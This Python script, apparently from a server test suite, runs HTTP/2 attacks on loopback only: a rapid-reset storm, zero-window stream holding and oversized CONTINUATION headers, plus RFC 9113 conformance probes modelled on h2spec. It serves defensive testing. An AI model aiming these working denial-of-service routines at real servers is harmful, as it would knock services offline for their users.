#!/usr/bin/env python3
"""HTTP/2 attacks and conformance probes for the abuse suite (raw frames; loopback only).

Needs hyperframe and hpack (Debian: python3-h2). Every subcommand takes HOST PORT, --tls
(TLS with ALPN h2 instead of h2c prior knowledge) and --sources, and prints one JSON object.

  request HOST PORT [--path P] [--fill-header NAME:CHAR:N]
      One GET; reports how the stream ended: {"outcome": "response"|"rst"|"goaway"|"closed"
      |"timeout", "status", "code"}. A --fill-header value is N times CHAR ("high": the bytes
      0x80..0xFF over and over); it travels in HEADERS + CONTINUATION frames.

  zero-window HOST PORT --streams N --path P [--ready FILE] [--hold S]
      Announces SETTINGS_INITIAL_WINDOW_SIZE = 0, opens N GET streams (as many as the server
      allows at once) and never grants a byte of window; answers PINGs and holds the
      connection until SIGTERM or --hold seconds. The ready file holds the counts.

  reset-storm HOST PORT --streams N --per-conn K --path P [--delay S]
      Opens streams with HEADERS and resets each (RST_STREAM CANCEL) right after, K per
      connection, until N streams were sent; a connection the server ends is replaced.

  conformance HOST PORT --test T [--repeat N] [--path P]
      Sends one protocol violation per run, N runs, each on a new connection, and reports
      how many runs ended as RFC 9113 demands (h2spec's verdicts; a response that arrives
      first is ignored, as h2spec does, but the error must come):
        bad-preface       (TLS) "INVALID CONNECTION PREFACE" instead of the preface: GOAWAY or
                          close, and never an HTTP/1.1 answer
        h1-after-alpn-h2  (TLS) an HTTP/1.1 request after ALPN chose h2: the same
        second-headers    a second HEADERS without END_STREAM on an open stream: PROTOCOL_ERROR
                          (RST_STREAM or GOAWAY) or close
        content-length    content-length: 10 but 5 bytes of DATA: PROTOCOL_ERROR or close
        trailer-pseudo    trailers carrying :method: PROTOCOL_ERROR or close
        data-after-rst    DATA on a stream the client reset: STREAM_CLOSED (RST_STREAM), a
                          connection error (GOAWAY) or close; if the connection goes on, a
                          next GET on it must get a complete 200
"""
import argparse
import signal
import socket
import time

import abuselib as al

SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3


def open_h2(a, src, settings=None):
    host = al.check_loopback(a.host)
    sock = al.connect(host, a.port, src)
    if a.tls:
        sock = al.wrap_tls(sock, ["h2"])
        if sock.selected_alpn_protocol() != "h2":
            raise SystemExit("ALPN did not choose h2 (got %r)" % sock.selected_alpn_protocol())
    h2 = al.H2(sock)
    h2.start(settings)
    return h2


def request_headers(a, method="GET", path=None, extra=()):
    return [(":method", method), (":scheme", "https" if a.tls else "http"), (":authority", "localhost"),
            (":path", path or a.path)] + list(extra)


def server_max_streams(h2, wait=2.0):
    """Read until the server's SETTINGS arrived; its MAX_CONCURRENT_STREAMS (or 100)."""
    deadline = time.monotonic() + wait
    while h2.peer_settings is None and time.monotonic() < deadline:
        h2.sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            h2.read()
        except socket.timeout:
            break
    return (h2.peer_settings or {}).get(SETTINGS_MAX_CONCURRENT_STREAMS, 100)


def fill(spec):
    name, char, n = spec.split(":")
    n = int(n)
    val = bytes(0x80 + (i % 0x80) for i in range(n)) if char == "high" else char.encode("latin-1") * n
    return (name.lower().encode(), val)


def cmd_request(a):
    src = al.sources(a.sources)[0]
    h2 = open_h2(a, src)
    sid = h2.new_stream()
    extra = [fill(s) for s in a.fill_header]
    hdrs = [(k.encode(), v.encode()) for k, v in request_headers(a)] + extra
    try:
        h2.send(h2.headers_frames(sid, hdrs, end_stream=True))
        res = al.stream_outcome(h2, sid, time.monotonic() + a.timeout, want_body=True)
    except al.Closed:
        res = {"outcome": "closed", "status": None, "code": None}
    res["header_block_fields"] = len(hdrs)
    al.emit(res)


class Flag:
    def __init__(self):
        self.stop = False
        signal.signal(signal.SIGTERM, self.set)
        signal.signal(signal.SIGINT, self.set)

    def set(self, *_):
        self.stop = True


def drain(h2, until, flag=None):
    """Read (and answer SETTINGS/PING) until UNTIL; return the frames' type names."""
    seen = []
    while time.monotonic() < until and not (flag and flag.stop):
        h2.sock.settimeout(max(0.01, min(0.2, until - time.monotonic())))
        try:
            f = h2.read()
        except socket.timeout:
            continue
        seen.append(f)
    return seen


def cmd_zero_window(a):
    from hyperframe.frame import GoAwayFrame, HeadersFrame, RstStreamFrame

    flag = Flag()
    h2 = open_h2(a, al.sources(a.sources)[0], {SETTINGS_INITIAL_WINDOW_SIZE: 0})
    limit = server_max_streams(h2)
    opened = []
    for _ in range(min(a.streams, limit)):
        sid = h2.new_stream()
        h2.send(h2.headers_frames(sid, request_headers(a), end_stream=True))
        opened.append(sid)
    counts = {"requested": a.streams, "server_max_streams": limit, "opened": len(opened),
              "responses": 0, "resets": 0, "goaway": None, "closed": False}

    def account(frames):
        for f in frames:
            if isinstance(f, HeadersFrame):
                counts["responses"] += 1
            elif isinstance(f, RstStreamFrame):
                counts["resets"] += 1
            elif isinstance(f, GoAwayFrame):
                counts["goaway"] = al.error_name(f.error_code)

    start = time.monotonic()
    try:
        account(drain(h2, start + 1.0, flag))
        if a.ready:
            al.write_json(a.ready, counts)
        account(drain(h2, start + a.hold, flag))
    except al.Closed:
        counts["closed"] = True
        if a.ready:
            al.write_json(a.ready, counts)
    counts["held_s"] = round(time.monotonic() - start, 1)
    al.emit(counts)


def cmd_reset_storm(a):
    from hyperframe.frame import GoAwayFrame

    flag = Flag()
    srcs = al.sources(a.sources)
    sent = conns = 0
    goaways = {}
    closed_early = 0
    deadline = time.monotonic() + a.max_seconds
    while sent < a.streams and time.monotonic() < deadline and not flag.stop:
        try:
            h2 = open_h2(a, srcs[conns % len(srcs)])
        except (OSError, SystemExit):
            closed_early += 1
            time.sleep(0.05)
            continue
        conns += 1
        try:
            batch = max(1, min(a.per_conn, server_max_streams(h2)))
            on_conn = 0
            while on_conn < a.per_conn and sent < a.streams:
                k = min(batch, a.per_conn - on_conn, a.streams - sent)
                sids = [h2.new_stream() for _ in range(k)]
                h2.send(b"".join(h2.headers_frames(s, request_headers(a), end_stream=True) for s in sids))
                if a.delay:
                    time.sleep(a.delay)
                h2.send(b"".join(h2.rst_frame(s, 0x8) for s in sids))
                sent += k
                on_conn += k
                for f in drain(h2, time.monotonic() + 0.005):
                    if isinstance(f, GoAwayFrame):
                        name = al.error_name(f.error_code)
                        goaways[name] = goaways.get(name, 0) + 1
                        raise al.Closed("goaway")
        except (al.Closed, OSError):
            closed_early += 1
        finally:
            h2.sock.close()
    al.emit({"streams_sent": sent, "connections": conns, "goaways": goaways, "ended_by_server": closed_early})


def until_error(h2, sid, deadline):
    """h2spec's wait for an error: skip other frames until RST_STREAM on SID, GOAWAY, close
    or the deadline. Returns (kind, code name, statuses seen on SID)."""
    from hyperframe.frame import ContinuationFrame, GoAwayFrame, HeadersFrame, RstStreamFrame

    statuses = []
    block = b""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return "timeout", None, statuses
        h2.sock.settimeout(left)
        try:
            f = h2.read()
        except socket.timeout:
            return "timeout", None, statuses
        except al.Closed:
            return "closed", None, statuses
        if isinstance(f, GoAwayFrame):
            return "goaway", al.error_name(f.error_code), statuses
        if f.stream_id == sid and isinstance(f, RstStreamFrame):
            return "rst", al.error_name(f.error_code), statuses
        if f.stream_id == sid and isinstance(f, (HeadersFrame, ContinuationFrame)):
            block += f.data
            if "END_HEADERS" in f.flags:
                st = dict(h2.decode(block)).get(":status")
                block = b""
                if st:
                    statuses.append(st)


def raw_preface_probe(a, payload):
    """TLS with ALPN h2, then PAYLOAD instead of the preface. Pass: GOAWAY or close, no
    HTTP/1.x bytes."""
    from hyperframe.frame import Frame, GoAwayFrame

    sock = al.wrap_tls(al.connect(a.host, a.port, al.sources(a.sources)[0]), ["h2"])
    alpn = sock.selected_alpn_protocol()
    sock.sendall(payload)
    got = b""
    deadline = time.monotonic() + a.timeout
    closed = False
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        except (OSError, ConnectionError):
            closed = True
            break
        if not chunk:
            closed = True
            break
        got += chunk
        if got.startswith(b"HTTP/"):
            break
    sock.close()
    if got.startswith(b"HTTP/"):
        return False, "HTTP/1.x answer: %s" % got.split(b"\r\n", 1)[0].decode("latin-1")
    # Look for a GOAWAY among the frames that came.
    off = 0
    while off + 9 <= len(got):
        try:
            frame, length = Frame.parse_frame_header(memoryview(got[off:off + 9]))
        except Exception:
            break
        if isinstance(frame, GoAwayFrame) and off + 9 + length <= len(got):
            frame.parse_body(memoryview(got[off + 9:off + 9 + length]))
            return True, "GOAWAY %s (ALPN %s)" % (al.error_name(frame.error_code), alpn)
        off += 9 + length
    if closed:
        return True, "closed (ALPN %s)" % alpn
    return False, "neither GOAWAY nor close within %.0f s (ALPN %s, %d bytes)" % (a.timeout, alpn, len(got))


def stream_probe(a, test):
    h2 = open_h2(a, al.sources(a.sources)[0])
    server_max_streams(h2)
    sid = h2.new_stream()
    post = request_headers(a, "POST")
    if test == "second-headers":
        frames = [h2.headers_frames(sid, post), h2.headers_frames(sid, [("x-second", "1")])]
        want = {"PROTOCOL_ERROR"}
    elif test == "content-length":
        frames = [h2.headers_frames(sid, post + [("content-length", "10")]), h2.data_frame(sid, b"hello", True)]
        want = {"PROTOCOL_ERROR"}
    elif test == "trailer-pseudo":
        frames = [h2.headers_frames(sid, post), h2.data_frame(sid, b"test"),
                  h2.headers_frames(sid, [(":method", "POST"), ("x-trailer", "1")], end_stream=True)]
        want = {"PROTOCOL_ERROR"}
    else:  # data-after-rst
        frames = [h2.headers_frames(sid, post), h2.rst_frame(sid, 0x8), h2.data_frame(sid, b"test", True)]
        want = {"STREAM_CLOSED"}
    h2.send(*frames)
    kind, code, statuses = until_error(h2, sid, time.monotonic() + a.timeout)
    seen = "%s%s%s" % (kind, " " + code if code else "", " (after response %s)" % ",".join(statuses) if statuses else "")
    if kind == "closed":
        ok = True
    elif kind == "goaway":
        ok = code != "NO_ERROR" if test == "data-after-rst" else code in want
    elif kind == "rst":
        ok = code in want
    else:
        ok = False
    if ok and kind == "rst" and test == "data-after-rst":
        # The connection goes on: it must still serve a next request correctly.
        nsid = h2.new_stream()
        try:
            h2.send(h2.headers_frames(nsid, request_headers(a)))
            h2.send(h2.data_frame(nsid, b"", True))
            res = al.stream_outcome(h2, nsid, time.monotonic() + a.timeout, want_body=True)
        except al.Closed:
            res = {"outcome": "closed", "status": None, "complete": False}
        if not (res["status"] == 200 and res.get("complete")):
            ok = False
            seen += "; next GET on the connection: %s %s" % (res["outcome"], res["status"])
    h2.sock.close()
    return ok, seen


def cmd_conformance(a):
    outcomes = {}
    passed = 0
    for _ in range(a.repeat):
        try:
            if a.test == "bad-preface":
                ok, seen = raw_preface_probe(a, b"INVALID CONNECTION PREFACE\r\n\r\n")
            elif a.test == "h1-after-alpn-h2":
                ok, seen = raw_preface_probe(a, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            else:
                ok, seen = stream_probe(a, a.test)
        except (OSError, al.Closed) as e:
            ok, seen = False, "connection failed: %s" % e
        passed += ok
        key = ("ok: " if ok else "BAD: ") + seen
        outcomes[key] = outcomes.get(key, 0) + 1
    al.emit({"test": a.test, "tls": a.tls, "runs": a.repeat, "passed": passed, "outcomes": outcomes})


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)

    def common(p):
        p.add_argument("host")
        p.add_argument("port", type=int)
        p.add_argument("--tls", action="store_true")
        p.add_argument("--sources", default="127.0.0.2")
        p.add_argument("--path", default="/")
        p.add_argument("--timeout", type=float, default=5.0)
        return p

    r = common(sub.add_parser("request"))
    r.add_argument("--fill-header", action="append", default=[])
    z = common(sub.add_parser("zero-window"))
    z.add_argument("--streams", type=int, default=70)
    z.add_argument("--ready")
    z.add_argument("--hold", type=float, default=30.0)
    s = common(sub.add_parser("reset-storm"))
    s.add_argument("--streams", type=int, default=10000)
    s.add_argument("--per-conn", type=int, default=100)
    s.add_argument("--delay", type=float, default=0.001)
    s.add_argument("--max-seconds", type=float, default=60.0)
    c = common(sub.add_parser("conformance"))
    c.add_argument("--test", required=True, choices=["bad-preface", "h1-after-alpn-h2", "second-headers",
                                                     "content-length", "trailer-pseudo", "data-after-rst"])
    c.add_argument("--repeat", type=int, default=10)
    a = ap.parse_args()
    al.check_loopback(a.host)
    al.raise_nofile()
    {"request": cmd_request, "zero-window": cmd_zero_window, "reset-storm": cmd_reset_storm,
     "conformance": cmd_conformance}[a.cmd](a)


if __name__ == "__main__":
    main()
